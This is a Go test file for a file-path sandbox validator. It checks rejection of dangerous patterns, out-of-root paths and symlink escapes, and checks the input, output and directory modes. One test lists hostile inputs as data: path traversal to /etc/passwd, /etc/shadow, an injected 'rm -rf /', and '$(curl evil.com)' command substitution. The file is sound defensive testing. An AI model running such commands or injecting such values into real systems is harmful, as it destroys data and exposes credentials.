package sandbox

import (
	"errors"
	"os"
	"path/filepath"
	"testing"

	"renderport/internal/services"
)

func newTestSandbox(t *testing.T, roots ...string) *Sandbox {
	t.Helper()
	sb, err := New(roots, nil)
	if err != nil {
		t.Fatalf("sandbox.New: %v", err)
	}
	return sb
}

func violationKind(t *testing.T, err error) ViolationKind {
	t.Helper()
	var v *Violation
	if !errors.As(err, &v) {
		t.Fatalf("expected *Violation, got %v", err)
	}
	return v.Kind
}

func TestDangerousPatternsRejectedBeforeResolution(t *testing.T) {
	sb := newTestSandbox(t, t.TempDir())
	inputs := []string{
		"../../../etc/passwd",
		"file; rm -rf /",
		"$(curl evil.com)",
		"~/secret",
		"/etc/shadow",
		"clip\x00.mp4",
		"a|b.mp4",
	}
	for _, raw := range inputs {
		_, err := sb.Validate(raw, ModeInput)
		if kind := violationKind(t, err); kind != KindDangerousPattern {
			t.Errorf("Validate(%q) kind = %s, want %s", raw, kind, KindDangerousPattern)
		}
	}
}

func TestViolationUnwrapsToSecurityError(t *testing.T) {
	sb := newTestSandbox(t, t.TempDir())
	_, err := sb.Validate("~/secret", ModeInput)
	if !errors.Is(err, services.ErrSecurity) {
		t.Fatalf("expected services.ErrSecurity, got %v", err)
	}
	if services.Retryable(err) {
		t.Fatal("security violations must not be retryable")
	}
}

func TestOutsideSandboxRejected(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	sb := newTestSandbox(t, root)

	victim := filepath.Join(outside, "victim.mp4")
	if err := os.WriteFile(victim, []byte("x"), 0o644); err != nil {
		t.Fatalf("write victim: %v", err)
	}

	_, err := sb.Validate(victim, ModeInput)
	if kind := violationKind(t, err); kind != KindOutsideSandbox {
		t.Errorf("kind = %s, want %s", kind, KindOutsideSandbox)
	}
}

func TestSymlinkEscapeRejected(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	sb := newTestSandbox(t, root)

	victim := filepath.Join(outside, "victim.mp4")
	if err := os.WriteFile(victim, []byte("x"), 0o644); err != nil {
		t.Fatalf("write victim: %v", err)
	}
	// Raw text lies inside the root but resolves outside it.
	link := filepath.Join(root, "clip.mp4")
	if err := os.Symlink(victim, link); err != nil {
		t.Fatalf("symlink: %v", err)
	}

	_, err := sb.Validate(link, ModeInput)
	if kind := violationKind(t, err); kind != KindOutsideSandbox {
		t.Errorf("kind = %s, want %s", kind, KindOutsideSandbox)
	}
}

func TestInputModeRequiresExistingReadableFile(t *testing.T) {
	root := t.TempDir()
	sb := newTestSandbox(t, root)

	_, err := sb.Validate(filepath.Join(root, "missing.mp4"), ModeInput)
	if kind := violationKind(t, err); kind != KindModeCheck {
		t.Errorf("missing file kind = %s, want %s", kind, KindModeCheck)
	}

	sub := filepath.Join(root, "subdir")
	if err := os.Mkdir(sub, 0o755); err != nil {
		t.Fatalf("mkdir: %v", err)
	}
	_, err = sb.Validate(sub, ModeInput)
	if kind := violationKind(t, err); kind != KindModeCheck {
		t.Errorf("directory-as-input kind = %s, want %s", kind, KindModeCheck)
	}
}

func TestInputModeAcceptsValidFile(t *testing.T) {
	root := t.TempDir()
	sb := newTestSandbox(t, root)

	clip := filepath.Join(root, "clip.mp4")
	if err := os.WriteFile(clip, []byte("video"), 0o644); err != nil {
		t.Fatalf("write clip: %v", err)
	}

	resolved, err := sb.Validate(clip, ModeInput)
	if err != nil {
		t.Fatalf("Validate: %v", err)
	}
	if !filepath.IsAbs(resolved) {
		t.Errorf("resolved path %q is not absolute", resolved)
	}
}

func TestOutputModeRejectsHiddenFileOverwrite(t *testing.T) {
	root := t.TempDir()
	sb := newTestSandbox(t, root)

	hidden := filepath.Join(root, ".sidecar")
	if err := os.WriteFile(hidden, []byte("state"), 0o644); err != nil {
		t.Fatalf("write hidden: %v", err)
	}

	_, err := sb.Validate(hidden, ModeOutput)
	if kind := violationKind(t, err); kind != KindModeCheck {
		t.Errorf("kind = %s, want %s", kind, KindModeCheck)
	}
}

func TestOutputModeAllowsNewFileInExistingDir(t *testing.T) {
	root := t.TempDir()
	sb := newTestSandbox(t, root)

	if _, err := sb.Validate(filepath.Join(root, "new_asset.mp4"), ModeOutput); err != nil {
		t.Fatalf("Validate output: %v", err)
	}
}

func TestDirectoryMode(t *testing.T) {
	root := t.TempDir()
	sb := newTestSandbox(t, root)

	if _, err := sb.Validate(root, ModeDirectory); err != nil {
		t.Fatalf("Validate directory: %v", err)
	}

	file := filepath.Join(root, "clip.mp4")
	if err := os.WriteFile(file, []byte("x"), 0o644); err != nil {
		t.Fatalf("write file: %v", err)
	}
	_, err := sb.Validate(file, ModeDirectory)
	if kind := violationKind(t, err); kind != KindModeCheck {
		t.Errorf("kind = %s, want %s", kind, KindModeCheck)
	}
}
